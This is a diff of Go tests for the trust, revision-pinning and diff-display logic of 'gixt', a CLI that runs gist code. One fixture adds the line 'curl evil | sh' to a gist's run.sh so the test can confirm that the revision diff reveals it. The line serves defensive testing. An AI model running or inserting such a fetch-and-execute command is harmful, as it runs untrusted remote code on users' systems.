@@ -2,36 +2,120 @@ package cli
 
 import (
 	"context"
+	"fmt"
+	"net/http"
+	"runtime"
+	"strings"
 	"testing"
 
 	"github.com/leolaurindo/gixt/internal/config"
+	"github.com/leolaurindo/gixt/internal/gist"
 )
 
-func TestTrustDecisionOrdering(t *testing.T) {
+func TestTrustReasonOrdering(t *testing.T) {
 	settings := config.Settings{
 		Mode:          config.TrustNever,
-		TrustedOwners: map[string]bool{"owner1": true},
+		TrustedOwners: map[string]bool{"owner1": true, "gist.corp.example/owner2": true},
 		TrustedGists:  map[string]bool{"gist1": true},
 	}
+	cases := []struct {
+		mode    config.TrustMode
+		owner   string
+		key     string
+		yesFlag bool
+		want    trustReason
+	}{
+		{config.TrustNever, "owner1", "gist1", true, trustedByFlag},
+		{config.TrustAll, "owner1", "gist1", false, trustedByMode},
+		{config.TrustNever, "owner1", "gist1", false, trustedGist},
+		{config.TrustNever, "Owner1", "other", false, trustedOwner},
+		{config.TrustNever, "owner2", "gist.corp.example/other", false, trustedOwner},
+		{config.TrustNever, "owner2", "other", false, untrusted},
+		{config.TrustMine, "other", "other", false, untrusted},
+		{config.TrustNever, "other", "other", false, untrusted},
+	}
+	for _, tc := range cases {
+		settings.Mode = tc.mode
+		if got := trustReasonFor(context.Background(), nil, settings, tc.owner, tc.key, tc.yesFlag); got != tc.want {
+			t.Errorf("trustReasonFor(%s, %s, %s, %v) = %d, want %d", tc.mode, tc.owner, tc.key, tc.yesFlag, got, tc.want)
+		}
+	}
+}
 
-	if !trustDecision(context.Background(), settings, "any", "any", true) {
-		t.Fatalf("expected yesFlag to trust immediately")
+func TestStoredTrustSkipsThePrompt(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
 	}
+	useTestServer(t, func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, `{"id":"deadbeefcafe","owner":{"login":"alice"},"files":{
+			"gixt.json":{"filename":"gixt.json","content":"{\"run\":\"exit 0\"}"}},"history":[{"version":"rev1"}]}`)
+	})
+	ctx := context.Background()
+	// No --yes: whenever the prompt is reached, it reads the test's empty stdin and declines.
+	opts := runOptions{cacheDir: t.TempDir(), manifestFile: "gixt.json", isolate: true}
 
-	settings.Mode = config.TrustAll
-	if !trustDecision(context.Background(), settings, "any", "any", false) {
-		t.Fatalf("expected mode=all to trust")
+	if err := runWithOptions(ctx, opts, "deadbeefcafe", nil); ExitCode(err) != ExitTrust {
+		t.Fatalf("expected an untrusted gist to be declined, got %v", err)
+	}
+	paths, settings, err := ensurePathsAndSettings("")
+	if err != nil {
+		t.Fatal(err)
 	}
+	for name, trust := range map[string]func(*config.Settings){
+		"trusted gist":  func(s *config.Settings) { s.TrustedGists["deadbeefcafe"] = true },
+		"trusted owner": func(s *config.Settings) { s.TrustedOwners["alice"] = true },
+		"mode all":      func(s *config.Settings) { s.Mode = config.TrustAll },
+	} {
+		stored := settings
+		stored.TrustedGists = map[string]bool{}
+		stored.TrustedOwners = map[string]bool{}
+		trust(&stored)
+		if err := config.SaveSettings(paths.Settings, stored); err != nil {
+			t.Fatal(err)
+		}
+		if err := runWithOptions(ctx, opts, "deadbeefcafe", nil); err != nil {
+			t.Fatalf("%s: expected the run to skip the prompt, got %v", name, err)
+		}
+	}
+}
 
-	settings.Mode = config.TrustNever
-	if !trustDecision(context.Background(), settings, "owner1", "other", false) {
-		t.Fatalf("expected trusted owner to trust")
+func TestPinsRevisionByTrustSource(t *testing.T) {
+	cases := []struct {
+		pin    config.TrustPin
+		reason trustReason
+		want   bool
+	}{
+		{config.TrustPinOff, trustedGist, false},
+		{config.TrustPinGists, trustedGist, true},
+		{config.TrustPinGists, trustedOwner, false},
+		{config.TrustPinAll, trustedOwner, true},
+		{config.TrustPinAll, trustedByFlag, false},
+		{config.TrustPinAll, trustedMine, false},
 	}
-	if !trustDecision(context.Background(), settings, "other", "gist1", false) {
-		t.Fatalf("expected trusted gist to trust")
+	for _, tc := range cases {
+		if got := pinsRevision(tc.pin, tc.reason); got != tc.want {
+			t.Fatalf("pinsRevision(%s, %d) = %v, want %v", tc.pin, tc.reason, got, tc.want)
+		}
 	}
+}
 
-	if trustDecision(context.Background(), settings, "other", "other", false) {
-		t.Fatalf("expected untrusted inputs to require prompt")
+func TestRevisionDiffCoversChangedAddedAndRemovedFiles(t *testing.T) {
+	prev := gist.Gist{Files: map[string]gist.File{
+		"run.sh":  {Content: "echo hi\n"},
+		"old.txt": {Content: "bye\n"},
+	}}
+	cur := gist.Gist{Files: map[string]gist.File{
+		"run.sh":  {Content: "echo hi\ncurl evil | sh\n"},
+		"new.txt": {Content: "hello\n"},
+	}}
+	got := revisionDiff(prev, cur)
+	for _, want := range []string{
+		"--- /dev/null\n+++ b/new.txt\n",
+		"--- a/old.txt\n+++ /dev/null\n",
+		"+curl evil | sh\n",
+	} {
+		if !strings.Contains(got, want) {
+			t.Fatalf("diff missing %q:\n%s", want, got)
+		}
 	}
 }